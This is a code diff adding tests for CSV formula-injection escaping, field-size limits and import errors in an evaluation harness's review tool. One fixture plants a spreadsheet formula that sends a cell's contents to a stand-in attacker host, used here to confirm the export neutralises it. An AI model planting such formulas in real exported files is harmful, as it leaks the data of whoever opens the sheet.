@@ -17,9 +17,12 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from eval_harness.cli.decodeleak import main
-from eval_harness.construction.review import ReviewLog, export_csv, import_csv, marked, segments
+from eval_harness.construction.review import (ReviewLog, escape_formula, export_csv, import_csv, marked,
+                                              segments, unescape_formula)
 from eval_harness.construction.review_server import ReviewServer
 
 from tests.browser import headless_chromium
@@ -131,6 +134,68 @@ def request(url: str, *, body: object = None, headers: dict | None = None) -> tu
             return response.status, json.loads(response.read())
     except urllib.error.HTTPError as error:
         return error.code, json.loads(error.read())
+
+
+@pytest.mark.parametrize(("cell", "escaped"), [
+    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"), ("+1", "'+1"), ("-5 mg", "'-5 mg"),
+    ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("'quoted", "''quoted"),
+    ("fever, =x", "fever, =x"), ("", "")])
+def test_a_cell_a_spreadsheet_would_run_is_escaped(cell: str, escaped: str) -> None:
+    assert escape_formula(cell) == escaped
+    assert unescape_formula(escaped) == cell
+    assert unescape_formula("=x") == "=x"  # as a spreadsheet saves the cell it showed: unchanged
+
+
+@given(st.text(max_size=12))
+def test_escaping_a_cell_round_trips_and_never_leaves_a_formula(cell: str) -> None:
+    assert unescape_formula(escape_formula(cell)) == cell
+    assert not escape_formula(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_the_csv_holds_no_live_formula_and_reads_escaped_cells_back(build, tmp_path: Path, monkeypatch) -> None:  # noqa: ANN001
+    """Before, a rationale or context starting with ``=`` was a live formula in the exported sheet; an escaped span
+    came back with its quote; a field over 128 KiB crashed the import with a raw csv traceback."""
+    out, rows = build
+    row = rows[0]
+    # the judge's rationale and the item's context start with what a spreadsheet runs
+    extraction = [json.loads(line) for line in (out / "extraction.jsonl").read_text().splitlines()]
+    for entry in extraction:
+        entry["detail"] = '=HYPERLINK("http://attacker.example/?"&C2)'
+    (out / "extraction.jsonl").write_text("".join(json.dumps(e) + "\n" for e in extraction))
+    items = [json.loads(line) for line in (out / "items.jsonl").read_text().splitlines()]
+    items[0]["private_context"] = "@home " + items[0]["private_context"]
+    (out / "items.jsonl").write_text("".join(json.dumps(i) + "\n" for i in items))
+    sheet = tmp_path / "review.csv"
+    export_csv(ReviewLog(out), sheet)
+    with sheet.open(newline="") as data:
+        lines = list(csv.DictReader(data))
+    assert all(line["judge_rationale"] == "'" + extraction[0]["detail"] for line in lines)
+    assert lines[0]["marked_private_context"].startswith("'@home ")
+    assert not any(cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line.values())
+    # a person adds the span "@home": the escaped cell (as written back) and the bare one both mean "@home"
+    for cell in ("'@home, " + lines[0]["spans"], "@home, " + lines[0]["spans"]):
+        lines[0]["spans"] = cell
+        with sheet.open("w", newline="") as data:
+            writer = csv.DictWriter(data, fieldnames=list(lines[0]))
+            writer.writeheader()
+            writer.writerows(lines)
+        import_csv(ReviewLog(out), sheet)
+        assert decisions(out)[-1]["spans"] == ["@home", *spans_of(row)]
+        lines[0]["spans"] = ", ".join(spans_of(row))
+    # a long field (a private context over the csv module's 128 KiB default) is read ...
+    lines[1]["marked_private_context"] = "x" * 200_000
+    with sheet.open("w", newline="") as data:
+        writer = csv.DictWriter(data, fieldnames=list(lines[0]))
+        writer.writeheader()
+        writer.writerows(lines)
+    import_csv(ReviewLog(out), sheet)
+    # ... and one over the limit is a one-line error, not a traceback, and leaves the limit as it was
+    monkeypatch.setattr("eval_harness.construction.review.CSV_FIELD_LIMIT", 100_000)
+    before = csv.field_size_limit()
+    with pytest.raises(ValueError, match=r"not a readable CSV .*at most 100000 characters"):
+        import_csv(ReviewLog(out), sheet)
+    assert csv.field_size_limit() == before
+    assert main(["review", str(out), "--import-csv", str(sheet)]) == 1
 
 
 def credentialed(server: ReviewServer):  # noqa: ANN201
